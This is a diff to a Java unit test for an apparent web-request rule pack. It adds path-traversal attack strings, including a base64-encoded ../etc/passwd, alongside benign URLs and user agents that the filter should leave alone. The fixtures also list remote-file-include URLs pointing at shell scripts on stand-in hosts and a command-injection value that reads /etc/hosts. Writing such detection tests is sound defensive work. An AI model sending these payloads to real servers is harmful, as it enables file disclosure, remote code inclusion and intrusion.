@@ -58,6 +58,10 @@ public class RulePackTest {
       "/static/..%252f..%252fetc%252fshadow|traversal|",
       "/d?f=..%c0%af..%c0%afboot.ini|traversal|",
       "/d?f=php://filter/convert.base64-encode/resource=index.php|traversal|",
+      "/files//etc/security/passwd|traversal|",
+      "/d?f=Li4vLi4vLi4vZXRjL3Bhc3N3ZA%3D%3D|traversal|",
+      "/|traversal|/etc/init.d/apache2",
+      "/|traversal|c:\\Program Files\\Apache Group\\Apache\\logs\\error.log",
       "/i?page=http://198.51.100.7/shell.txt?|rfi|",
       "/i?page=http://evil.example/c99.php|rfi|",
       "/c?h=127.0.0.1;cat%20/etc/hosts|cmdi|",
@@ -114,7 +118,8 @@ public class RulePackTest {
       "/?utm_source=news&fbclid=IwAR2xYz_09-aZ", "/auth?token=eyJhbGciOiJIUzI1NiJ9.eyJzIjoxfQ.x",
       "/products/trail-boot-17?color=brown&size=44", "/blog/how-to-choose", "/robots.txt",
       "/static/app.3f9a1c.js", "/login?next=%2Faccount", "/downloads/manual.zip",
-      "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php"})
+      "/search?q=tom+%26+jerry", "/search?q=drop+shipping", "/wp-login.php",
+      "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc"})
   void leavesBenignTrafficAlone(String target) {
     leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
         + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
@@ -123,7 +128,8 @@ public class RulePackTest {
   /** Tools name themselves, some with nothing but their name: not a command line. */
   @ParameterizedTest
   @CsvSource(delimiter = '|', value = {"curl", "curl/8.5.0", "Wget/1.21.4", "python-requests/2.31",
-      "Python-urllib/3.11", "PHP/8.2", "Echobot", "net/http", "ping-o-matic", "Go-http-client/1.1"})
+      "Python-urllib/3.11", "PHP/8.2", "Echobot", "net/http", "ping-o-matic", "Go-http-client/1.1",
+      "Dev/1.0", "Sys/2 (compatible)", "Root/3.1", "Var/1"})
   void leavesToolAgentsAlone(String agent) {
     leavesBenignAgentsAlone("/robots.txt", agent);
   }
